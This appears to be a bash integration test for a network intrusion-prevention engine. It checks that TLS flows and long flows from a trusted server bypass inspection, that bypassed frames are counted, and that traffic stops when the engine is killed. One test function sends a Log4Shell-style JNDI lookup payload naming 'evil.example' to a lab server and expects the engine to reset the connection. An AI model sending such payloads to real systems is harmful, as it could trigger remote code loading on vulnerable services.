#!/usr/bin/env bash
# Flows that the operator lets pass unseen: TLS between both ends and long flows of a trusted server leave the engine's path,
# are counted to the last frame, and nothing else passes with them.
set -euo pipefail
# shellcheck source=lab.sh
. "$(dirname "${BASH_SOURCE[0]}")/lab.sh"

bulk_bytes=30000000

# event FILTER: the last event of which the jq filter holds.
event() { jq -c "select($1)" "$dir/eve.json" | tail -n1; }

counter() { event '.event_type == "stats"' | jq ".stats.$1"; }

# driver: frames that the programs of both ports passed on.
driver() { counter "capture.\"$lab_prefix\" | (.inside.bypassed + .outside.bypassed)"; }

# started LINES: a new engine, with lines added to its config.
started() {
    engine_write_config "$dir/weir.toml" "$dir/eve.json" "${on_loss-forward}"
    # A loaded machine must not look like a lost engine.
    sed -i '/^on_engine_loss/a heartbeat_timeout_ms = 2000' "$dir/weir.toml"
    printf '\n%s\n' "$1" >>"$dir/weir.toml"
    rm -f "$dir/eve.json"
    lab_start_engine case-bypass
}

# checksums STATE: whole where both ends make them (off), partial where they leave them to a device (on).
checksums() {
    in_ns client ethtool -K to-server tx "$1" tso off gso off >/dev/null
    in_ns server ethtool -K to-client tx "$1" tso off gso off >/dev/null
}

# gro STATE: where it is on, the far end of a port takes what is redirected to that port.
gro() {
    in_ns client ethtool -K to-server gro "$1" >/dev/null
    in_ns server ethtool -K to-client gro "$1" >/dev/null
}

# Nothing but what the labs ask for is to be on the wire: frames are counted.
hush() {
    local end
    for end in client middle server; do
        in_ns "$end" sysctl -qw net.ipv6.conf.all.disable_ipv6=1
    done
    neighbour client to-server "$server_v4" server to-client
    neighbour server to-client "$client_v4" client to-server
}

# neighbour END DEVICE ADDRESS OTHER ITS_DEVICE: END knows the other's MAC address.
neighbour() {
    local mac
    mac=$(ip -n "$lab_prefix-$4" -j link show dev "$5" | jq -r '.[0].address')
    ip -n "$lab_prefix-$1" neighbour replace "$3" lladdr "$mac" dev "$2" nud permanent
}

# sent END DEVICE: frames that its device sent so far.
sent() { ip -n "$lab_prefix-$1" -j -s link show dev "$2" | jq '.[0].stats64.tx.packets'; }

# download URL: whether the big file arrives as it is.
download() {
    fetch "$dir/got" "$1/download.bin" --insecure
    [[ $curl_exit -eq 0 && $(sha256 "$dir/got") == "$(sha256 "$dir/site/pages/download.bin")" ]]
}

attack_is_reset() {
    fetch "$dir/got" "$1/?x=\${jndi:ldap://evil.example/a}"
    [[ $curl_exit -eq 56 ]]
}

# The site, and the same by TLS on a port of its own. (The function of site.sh, under another name.)
eval "plain_$(declare -f site_config)"
site_config() {
    openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj /CN=lab \
        -keyout "$site_dir/key.pem" -out "$site_dir/certificate.pem" 2>/dev/null
    plain_site_config | sed "s|listen 80;|&\n        listen 443 ssl;\n        ssl_certificate $site_dir/certificate.pem;\n        ssl_certificate_key $site_dir/key.pem;|"
}

encrypted='[bypass]
encrypted = true'

in_the_driver() {
    section "TLS, with checksums whole and GRO on at both far ends"
    checksums off
    gro on
    started "$encrypted"
    local before after flow
    before=("$(sent client to-server)" "$(sent server to-client)")
    check "a download by TLS arrives" download "https://$server_v4"
    sleep 0.5
    after=("$(sent client to-server)" "$(sent server to-client)")
    check "an attack by HTTP on the same port is reset" attack_is_reset "http://$server_v4:443"
    check "plain HTTP is inspected as ever" attack_is_reset "http://$server_v4"
    engine_end TERM
    flow=$(event '.event_type == "flow" and .flow.bypassed == "encrypted"')
    check "its event says why it was bypassed" test -n "$flow"
    check_equal "and counts each frame of the client" "$(jq .flow.pkts_toserver <<<"$flow")" $((after[0] - before[0]))
    check_equal "and of the server" "$(jq .flow.pkts_toclient <<<"$flow")" $((after[1] - before[1]))
    check "the driver passed most of them on" test "$(driver)" -gt $((bulk_bytes / 1500 / 2))
    check_equal "one flow was bypassed" "$(counter flow.bypassed.encrypted)" 1
    check_not "nobody was warned" grep -q 'no frames can be redirected' "$dir/engine.log"
}

# in_the_engine WHY
in_the_engine() {
    section "TLS, with $1"
    started "$encrypted"
    check "a download by TLS arrives" download "https://$server_v4"
    check "plain HTTP is inspected as ever" attack_is_reset "http://$server_v4"
    engine_end TERM
    check_equal "the driver passed nothing on" "$(driver)" 0
    check "the engine did" test "$(counter ips.bypassed)" -gt $((bulk_bytes / 1500 / 2))
    check_equal "one flow was bypassed" "$(counter flow.bypassed.encrypted)" 1
}

elephant() {
    section "a long flow of a trusted server"
    checksums off
    gro on
    started "[[bypass.trusted]]
server = \"$server_v4/32\"
port = 80
protocol = \"tcp\"
after_bytes = 1000000"
    check "arrives" download "http://$server_v4"
    check "TLS with it arrives too" download "https://$server_v4"
    check "a short flow with it is inspected" attack_is_reset "http://$server_v4"
    engine_end TERM
    check_equal "the long one was bypassed" "$(counter flow.bypassed.trusted)" 1
    check_equal "encrypted ones were not, as nobody said so" "$(counter flow.bypassed.encrypted)" 0
    check "the driver passed it on" test "$(driver)" -gt $((bulk_bytes / 1500 / 2))
}

loss() {
    section "a killed engine, with on_engine_loss = \"drop\""
    on_loss=drop started "$encrypted"
    in_ns client curl -qgs --noproxy '*' --insecure --limit-rate 3M -o "$dir/slow" "https://$server_v4/download.bin" &
    local client=$! size
    lab_children+=("$client")
    # Long enough for some of it to arrive.
    for _ in {1..100}; do
        [[ $(stat -c %s "$dir/slow" 2>/dev/null || echo 0) -lt 3000000 ]] || break
        sleep 0.1
    done
    engine_end KILL
    # curl holds back what it has received, to keep its rate; what is on its way then is some windows at most.
    sleep 2
    local received
    received=$(received_by_client)
    sleep 1.5
    check_equal "nothing of a bypassed flow passes any more" "$(received_by_client)" "$received"
    size=$(stat -c %s "$dir/slow")
    check "it had begun to arrive, and is not whole" test "$size" -gt 0 -a "$size" -lt "$bulk_bytes"
    kill "$client" 2>/dev/null || true
    engine_detach >/dev/null
}

received_by_client() { ip -n "$lab_prefix-client" -j -s link show dev to-server | jq '.[0].stats64.rx.packets'; }

if obstacle=$(lab_obstacle); then skip case-bypass "$obstacle"; fi
command -v openssl >/dev/null || skip case-bypass "there is no openssl"
lab_open bypass
lab_up "${LAB_PREFIX:-weir-bypass-$$}"
lab_mount_bpffs
hush
site_up "$dir/site"
head -c "$bulk_bytes" /dev/urandom >"$dir/site/pages/download.bin"
in_the_driver
gro off
in_the_engine "GRO off at the far ends"
check "a warning says so, with a hint" grep -q 'gro on' "$dir/engine.log"
gro on
checksums on
in_the_engine "checksums left to a device"
elephant
loss
checks_close
